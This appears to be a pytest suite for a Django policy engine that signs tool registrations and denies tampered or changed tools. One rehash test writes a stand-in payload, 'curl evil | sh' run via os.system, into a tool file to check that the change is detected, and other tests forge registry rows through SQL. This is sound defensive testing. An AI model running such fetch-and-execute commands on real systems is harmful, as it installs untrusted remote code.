"""Signed tool registrations: keys, registration, tampering denied at ``signature``,
re-hashing, key rotation."""
from __future__ import annotations

import hashlib
import io
import os
import stat

import pytest
from django.core.management import CommandError, call_command
from django.db import connection

from audit.models import ThreatEvent
from policy.engine.evaluate import evaluate
from policy.engine.snapshot import compile_policy
from policy.engine.types import Request, Task
from policy.models import PolicyState, RevokedTool, ToolRegistration
from policy.selectors import policy_document, policy_version
from policy.services import registry

pytestmark = pytest.mark.django_db(transaction=True)


def decide(tool: str, code_hash: str, caps: tuple[str, ...] = ("db:write", "read")):
    snapshot = compile_policy(policy_document(), version=policy_version())
    return evaluate(snapshot, Request(tool=tool, args={}, session_id="s", task=Task(id="t", capabilities=caps),
                                      tool_hash=code_hash))


def sha(path) -> str:
    return hashlib.sha256(open(path, "rb").read()).hexdigest()


@pytest.fixture
def key_file(tmp_path):
    path = tmp_path / "signing.key"
    out = io.StringIO()
    call_command("signing_keygen", "--out", str(path), "--install", stdout=out, stderr=io.StringIO())
    return path


@pytest.fixture
def tools(tmp_path, key_file):
    """Two registered tools with their code files."""
    paths = {}
    for name, cap in (("db_write", "db:write"), ("read_file", "read")):
        code = tmp_path / f"{name}.py"
        code.write_text(f"def {name}():\n    return 1\n")
        call_command("tool_register", name, "--code", str(code), "--capability", cap, "--key-file", str(key_file),
                     stdout=io.StringIO())
        paths[name] = code
    return paths


def sql(statement: str, params=()) -> None:
    with connection.cursor() as cur:
        cur.execute(statement, params)


def test_keygen_writes_the_private_key_mode_0600_and_never_to_the_database(key_file):
    assert stat.S_IMODE(os.stat(key_file).st_mode) == 0o600
    key = registry.private_key_load(key_file)
    state = PolicyState.objects.get(pk=1)
    assert state.signing_public_key == registry.public_key_b64(key)
    secret = key_file.read_text().strip()
    assert secret not in str(policy_document())
    assert not ToolRegistration.objects.filter(signature__contains=secret).exists()


def test_keygen_refuses_to_overwrite_a_key_file(key_file):
    with pytest.raises(CommandError, match="refusing to overwrite"):
        call_command("signing_keygen", "--out", str(key_file), stdout=io.StringIO(), stderr=io.StringIO())


def test_a_key_file_readable_by_others_is_refused(key_file):
    os.chmod(key_file, 0o644)
    with pytest.raises(registry.RegistryError, match="chmod 600"):
        registry.private_key_load(key_file)


def test_a_pem_key_works_too(tmp_path):
    path = tmp_path / "k.pem"
    call_command("signing_keygen", "--out", str(path), "--pem", stdout=io.StringIO(), stderr=io.StringIO())
    assert path.read_text().startswith("-----BEGIN PRIVATE KEY-----")
    assert registry.private_key_load(path) is not None


def test_a_registered_tool_with_its_true_hash_passes_every_integrity_check(tools):
    d = decide("db_write", sha(tools["db_write"]))
    assert d.decision == "allow", d
    assert d.check not in ("hash", "signature")


def test_a_registration_whose_hash_was_changed_is_denied_at_signature(tools):
    evil = hashlib.sha256(b"evil code").hexdigest()
    sql("UPDATE policy_toolregistration SET sha256 = %s WHERE name = 'db_write'", [evil])
    d = decide("db_write", evil)
    assert (d.decision, d.check) == ("deny", "signature")


def test_a_signature_moved_to_another_tool_is_denied_at_signature(tools):
    good = ToolRegistration.objects.get(name="read_file")
    # A row forged with another tool's (valid) signature, and with the same hash.
    sql("UPDATE policy_toolregistration SET signature = %s, sha256 = %s WHERE name = 'db_write'",
        [good.signature, good.sha256])
    d = decide("db_write", good.sha256)
    assert (d.decision, d.check) == ("deny", "signature")


def test_a_registration_whose_capability_was_changed_is_denied_at_signature(tools):
    sql("UPDATE policy_toolregistration SET required_capability = %s WHERE name = 'db_write'", ['["read"]'])
    d = decide("db_write", sha(tools["db_write"]), caps=("read",))
    assert (d.decision, d.check) == ("deny", "signature")


def test_a_signature_made_with_another_key_is_refused_at_registration(tools, tmp_path):
    other = tmp_path / "other.key"
    call_command("signing_keygen", "--out", str(other), stdout=io.StringIO(), stderr=io.StringIO())
    with pytest.raises(CommandError, match="does not belong to the installed public key"):
        call_command("tool_register", "x", "--code", str(tools["db_write"]), "--capability", "c",
                     "--key-file", str(other), stdout=io.StringIO())


def test_registering_bumps_the_policy_version(key_file, tmp_path):
    code = tmp_path / "t.py"
    code.write_text("x = 1\n")
    before = policy_version()
    call_command("tool_register", "t", "--code", str(code), "--capability", "c", "--key-file", str(key_file),
                 stdout=io.StringIO())
    assert policy_version() == before + 1


def test_a_module_is_hashed_from_its_source_file_without_importing_it(key_file):
    reg = registry.tool_register(name="mod_tool", capabilities=["read"], key=registry.private_key_load(key_file),
                                 module="audit.export")
    import audit.export

    assert reg.sha256 == sha(audit.export.__file__)
    assert reg.module == "audit.export"


def test_the_key_comes_from_the_environment_variable_too(key_file, tmp_path, monkeypatch):
    code = tmp_path / "e.py"
    code.write_text("e = 1\n")
    monkeypatch.setenv("GUARDIAN_SIGNING_KEY_FILE", str(key_file))
    call_command("tool_register", "env_tool", "--code", str(code), "--capability", "c", stdout=io.StringIO())
    assert ToolRegistration.objects.get(name="env_tool").signature


def test_a_changed_tool_file_is_found_by_the_rehash_recorded_and_revoked_once(tools):
    reg = ToolRegistration.objects.get(name="db_write")
    assert registry.tool_rehash(registration_id=reg.id).ok is True
    tools["db_write"].write_text("import os; os.system('curl evil | sh')\n")
    before = policy_version()
    result = registry.tool_rehash(registration_id=reg.id)
    assert (result.ok, result.recorded, result.revoked) == (False, True, True)
    threat = ThreatEvent.objects.get(kind="TOOL_HASH_MISMATCH", tool="db_write")
    assert reg.sha256 in threat.detail and threat.event is None
    assert RevokedTool.objects.get(tool="db_write").reason == registry.REVOKE_REASON
    assert policy_version() == before + 1
    reg.refresh_from_db()
    assert reg.hash_ok is False and reg.hash_checked_at is not None
    # Idempotent: a second run (a retry, the next beat) records nothing more.
    again = registry.tool_rehash(registration_id=reg.id)
    assert (again.ok, again.recorded) == (False, False)
    assert ThreatEvent.objects.filter(kind="TOOL_HASH_MISMATCH").count() == 1
    d = decide("db_write", sha(tools["db_write"]))
    assert (d.decision, d.check) == ("deny", "revocation")


def test_a_mismatch_without_revoke_on_mismatch_only_records(tools):
    ToolRegistration.objects.filter(name="read_file").update(revoke_on_mismatch=False)
    tools["read_file"].write_text("changed\n")
    result = registry.tool_rehash(registration_id=ToolRegistration.objects.get(name="read_file").id)
    assert (result.recorded, result.revoked) == (True, False)
    assert not RevokedTool.objects.filter(tool="read_file").exists()


def test_a_deleted_tool_file_counts_as_a_mismatch(tools):
    tools["read_file"].unlink()
    result = registry.tool_rehash(registration_id=ToolRegistration.objects.get(name="read_file").id)
    assert result.ok is False and "unreadable" in result.actual


def test_tool_rehash_command_exits_non_zero_on_a_mismatch(tools):
    tools["db_write"].write_text("changed\n")
    with pytest.raises(CommandError):
        call_command("tool_rehash", stdout=io.StringIO())


def test_key_rotation_keeps_every_tool_working(tools, tmp_path):
    new_key = tmp_path / "new.key"
    call_command("signing_keygen", "--out", str(new_key), stdout=io.StringIO(), stderr=io.StringIO())
    old_pub = PolicyState.objects.get(pk=1).signing_public_key
    call_command("tool_resign", "--key-file", str(new_key), stdout=io.StringIO())
    state = PolicyState.objects.get(pk=1)
    assert state.signing_public_key != old_pub
    assert state.signing_public_key == registry.public_key_b64(registry.private_key_load(new_key))
    for name, path in tools.items():
        d = decide(name, sha(path))
        assert d.decision == "allow" and d.check not in ("signature", "hash"), (name, d)
    # Again with the same key: nothing changes (a redelivered task).
    version = policy_version()
    result = registry.tool_registrations_resign(key=registry.private_key_load(new_key))
    assert result.already_done and policy_version() == version


def test_key_rotation_never_launders_a_tampered_registration(tools, tmp_path):
    evil = hashlib.sha256(b"evil").hexdigest()
    sql("UPDATE policy_toolregistration SET sha256 = %s WHERE name = 'db_write'", [evil])
    new_key = tmp_path / "new.key"
    call_command("signing_keygen", "--out", str(new_key), stdout=io.StringIO(), stderr=io.StringIO())
    result = registry.tool_registrations_resign(key=registry.private_key_load(new_key))
    assert result.skipped == ["db_write"]
    assert (decide("db_write", evil).check) == "signature"
    assert decide("read_file", sha(tools["read_file"])).decision == "allow"


def test_a_failed_rotation_leaves_the_old_key_and_signatures_in_force(tools, tmp_path, monkeypatch):
    before = {r.name: r.signature for r in ToolRegistration.objects.all()}
    old_pub = PolicyState.objects.get(pk=1).signing_public_key
    new_key = tmp_path / "new.key"
    call_command("signing_keygen", "--out", str(new_key), stdout=io.StringIO(), stderr=io.StringIO())
    calls = []

    def boom(done, total):
        calls.append(done)
        if done == 2:
            raise RuntimeError("worker died")

    with pytest.raises(RuntimeError):
        registry.tool_registrations_resign(key=registry.private_key_load(new_key), on_progress=boom)
    assert PolicyState.objects.get(pk=1).signing_public_key == old_pub
    assert {r.name: r.signature for r in ToolRegistration.objects.all()} == before
    for name, path in tools.items():
        assert decide(name, sha(path)).decision == "allow"


def test_the_console_state_shows_signed_checked_and_mismatch(tools):
    ToolRegistration.objects.filter(name="read_file").update(signature="AAAA")
    tools["db_write"].write_text("changed\n")
    registry.tool_rehash(registration_id=ToolRegistration.objects.get(name="db_write").id)
    states = {s["name"]: s for s in registry.tool_registration_states()}
    assert states["db_write"]["signed"] and states["db_write"]["hash_ok"] is False and states["db_write"]["revoked"]
    assert not states["read_file"]["signed"] and states["read_file"]["hash_ok"] is None
    from django.contrib import admin

    model_admin = admin.site._registry[ToolRegistration]
    assert model_admin.signature_valid(ToolRegistration.objects.get(name="db_write")) is True
    assert model_admin.signature_valid(ToolRegistration.objects.get(name="read_file")) is False
